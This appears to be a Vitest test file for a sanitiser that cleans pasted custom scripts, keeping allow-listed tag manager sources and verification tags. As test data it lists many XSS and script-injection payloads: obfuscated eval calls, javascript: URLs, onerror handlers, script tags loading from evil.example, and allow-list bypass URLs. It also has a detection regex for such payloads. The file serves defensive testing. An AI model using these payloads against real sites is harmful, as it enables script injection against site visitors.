import { describe, expect, test } from 'vitest'
import { sanitiseCustomScripts } from './sanitise-custom-scripts.ts'

describe('what people really paste', () => {
  test.each([
    [
      'a program',
      "window.dataLayer = window.dataLayer || []; window.dataLayer.push({ event: 'hello' })",
    ],
    ['a comparison', 'if (innerWidth<800 && devicePixelRatio>1) document.body.dataset.small = "1"'],
    [
      'a tag manager',
      "(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i;f.parentNode.insertBefore(j,f)})(window,document,'script','dataLayer','GTM-ABC123');",
    ],
    ['a handler that is no attribute', "window.onload = function () { document.title = 'x' }"],
  ])('%s stays as it is', (_, code) => {
    expect(sanitiseCustomScripts(code)).toEqual({
      code,
      sources: [],
      frames: [],
      verifications: [],
      warnings: [],
    })
  })

  test('the tags around a program are peeled off', () => {
    const { code, warnings } = sanitiseCustomScripts(
      '<!-- ours --><SCRIPT type="text/javascript">track("a")</SCRIPT >\n<script>track("b")</script>',
    )
    expect([code, warnings]).toEqual(['track("a")\n;\ntrack("b")', []])
  })

  test('keeps sources and frames of the allow-list, and blocks and reports others', () => {
    const kept =
      sanitiseCustomScripts(`<script async src="https://www.googletagmanager.com/gtag/js?id=G-1&amp;l=x"></script>
      <script src=//static.hotjar.com/c/hotjar-1.js></script><script src="https://evil.example/x.js"></script>
      <noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-1" height="0"></iframe></noscript>`)
    expect(kept.sources).toEqual([
      'https://www.googletagmanager.com/gtag/js?id=G-1&l=x',
      'https://static.hotjar.com/c/hotjar-1.js',
    ])
    expect(kept.frames).toEqual(['https://www.googletagmanager.com/ns.html?id=GTM-1'])
    expect(kept.warnings).toEqual(['external script blocked'])
  })

  test.each([
    ['google-site-verification', 'k9Zb_2-x'],
    ['msvalidate.01', '0123ABCD'],
    ['facebook-domain-verification', 'abc123'],
    ['p:domain_verify', 'abc'],
    ['yandex-verification', '0a1b'],
  ])('keeps the verification tag %s, and runs nothing for it', (name, content) => {
    const tag = `<meta name="${name}" content="${content}" />`
    expect(sanitiseCustomScripts(tag)).toEqual({
      code: '',
      sources: [],
      frames: [],
      verifications: [{ name, content }],
      warnings: [],
    })
  })

  test('a call is taken out whole, and the rest is still a program', () => {
    const { code, warnings } = sanitiseCustomScripts(
      `start(); window.setTimeout(function () { go(")", \`(\`) /* ) */ }, 10); end()`,
    )
    expect([code, warnings]).toEqual(['start(); void 0; end()', ['script injection blocked']])
  })

  test('an empty script stays empty, and a script with nothing left is reported', () => {
    expect(sanitiseCustomScripts('  \n ').warnings).toEqual([])
    expect(sanitiseCustomScripts('eval("1")')).toMatchObject({
      code: '',
      warnings: ['script injection blocked', 'custom script empty'],
    })
    expect(sanitiseCustomScripts('<script></script>').warnings).toEqual(['custom script empty'])
    expect(sanitiseCustomScripts('<b>hello</b>').warnings).toEqual([
      'script injection blocked',
      'custom script empty',
    ])
  })
})

const harmful =
  /eval|Function|setTimeout|setInterval|javascript:|constructor|onerror\s*=|<script|evil\.example/i

test.each([
  "evaevall('x')('y')",
  "eeval(1)val('x')",
  "evaluation('x')",
  "<script>ev</script><script>al('x')</script>",
  "EVAL('x')",
  'settimeout()',
])('%j only looks like it, and names something else', (text) => {
  expect(sanitiseCustomScripts(text).warnings).toEqual([])
})

describe('hostile text leaves nothing that could act', () => {
  test.each([
    `eval('x')`,
    `eval ('x')`,
    `eval/**/('x')`,
    `eval// \n('x')`,
    `eval\u200b('x')`,
    `ev\u00adal('x')`,
    `(0, eval)('x')`,
    `[eval][0]('x')`,
    `window.eval('x')`,
    `window?.eval?.('x')`,
    `window['eval']('x')`,
    `window['ev' + 'al']('x')`,
    `window["e" +\n"v" + 'al']('x')`,
    `window[['ev','al'].join('')]('x')`,
    `window['\\x65val']('x')`,
    `window['\\145val']('x')`,
    `\\u0065val('x')`,
    `\\u{65}val('x')`,
    `\\u{0000065}val('x')`,
    `eval\`x\``,
    `e<script>val('x')`,
    `set<script></script>Timeout('x')`,
    `a.href = 'java<script>script:alert(1)'`,
    `const run = eval; run('x')`,
    `eval.call(null, 'x')`,
    `new Function('x')()`,
    `Function('x')()`,
    `Function.prototype.call`,
    `new\nFunction\n('x')`,
    `[].constructor.constructor('x')()`,
    `[]['constructor']['constructor']('x')()`,
    `(()=>{})['con'+'structor']('x')()`,
    `Reflect.construct(x, [])`,
    `setTimeout('x', 1)`,
    `setTimeout ( "x" , 1 )`,
    `self.setInterval(() => steal(), 1)`,
    `setTimeout(x, 1`,
    `globalThis[atob('ZXZhbA==')]('x')`,
    `window[String.fromCharCode(101,118,97,108)]('x')`,
    `import('https://evil.example/x.js')`,
    `location = 'javascript:alert(1)'`,
    `location = 'JaVaScRiPt:alert(1)'`,
    `location = 'java\\nscript:alert(1)'`,
    `location = 'java' + 'script:alert(1)'`,
    `location = 'javajavascript:script:alert(1)'`,
    `a.href = '&#106;avascript:alert(1)'`,
    `a.href = '&#x6a;avascript&colon;alert(1)'`,
    `a.href = '\\u006aavascript:alert(1)'`,
    `b.innerHTML = '<img src=x onerror=alert(1)>'`,
    `b.innerHTML = '<img src=x ONERROR = "alert(1)">'`,
    `b.innerHTML = '<img/onerror=alert(1) src=x>'`,
    `b.innerHTML = '<img src=x on' + 'error=alert(1)>'`,
    `b.innerHTML = '\\x3cimg src=x onerror=alert(1)>'`,
    `b.innerHTML = '<scr<script>ipt>alert(1)</scr</script>ipt>'`,
    `b.innerHTML = '<scr' + 'ipt src="https://evil.example/x.js"></scr' + 'ipt>'`,
    `b.innerHTML = '<iframe srcdoc="x">'`,
    `b.setAttribute('onclick', 'x')`,
    `document.write('<script src="https://evil.example/x.js"></script>')`,
    `document['write']('x')`,
    `<script>eval('x')</script>`,
    `<script/src="https://evil.example/x.js"></script>`,
    `<script src="https://www.googletagmanager.com@evil.example/x.js"></script>`,
    `<script src="https://www.googletagmanager.com.evil.example/x.js"></script>`,
    `<script src="http://www.googletagmanager.com/gtm.js"></script>`,
    `<script src="https://www.googletagmanager.com:8443/gtm.js"></script>`,
    `<script src="data:text/javascript,alert(1)"></script>`,
    `<script src="javascript:alert(1)"></script>`,
    `<script src="\\\\evil.example/x.js"></script>`,
    `<script src="https://www.facebook.com/plugins/x.js"></script>`,
    `<script src="https://www.facebook.com/tr/../plugins/x.js"></script>`,
    `<script type="text/template">eval('x')</script>`,
    `<img src=x onerror=alert(1)>`,
    `<svg onload=alert(1)><script>eval('x')`,
    `<noscript><img src=x onerror=alert(1)></noscript>`,
    `<noscript><iframe src="https://evil.example/"></iframe></noscript>`,
    `<iframe src="https://evil.example/"></iframe>`,
    `<a href="javascript:alert(1)">x</a>`,
    `<base href="https://evil.example/">`,
    `<meta name="referrer" content="unsafe-url">`,
    `<meta http-equiv="refresh" name="google-site-verification" content="0;url=//evil.example">`,
    `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  ])('%j', (text) => {
    const left = sanitiseCustomScripts(text)
    expect(JSON.stringify(left.code)).not.toMatch(harmful)
    expect(left.code).not.toMatch(/atob|fromCharCode|Reflect|import\(|srcdoc|write|setAttribute/)
    expect([...left.sources, ...left.frames]).toEqual([])
    expect(left.warnings.length).toBeGreaterThan(0)
  })

  const parts = [
    '<script ',
    'eval(',
    '/*',
    '"',
    '<',
    'eval/*',
    ' a.',
    '&#',
    '<a "',
    'new ',
    '<img on',
    'a . ',
    'eval //\n',
    'a /* */ . ',
    "'a',",
    '<!--',
    '<noscript><iframe ',
    ' ',
    '\\u{',
    'document . ',
    'setTimeout(")",',
    '<img/on',
    "'+'",
  ]
  test.each(parts)('%j over and over is judged quickly', (part) => {
    const began = performance.now()
    sanitiseCustomScripts(part.repeat(20_000))
    sanitiseCustomScripts(`<${part.repeat(20_000)}`)
    expect(performance.now() - began).toBeLessThan(4_000)
  })
})
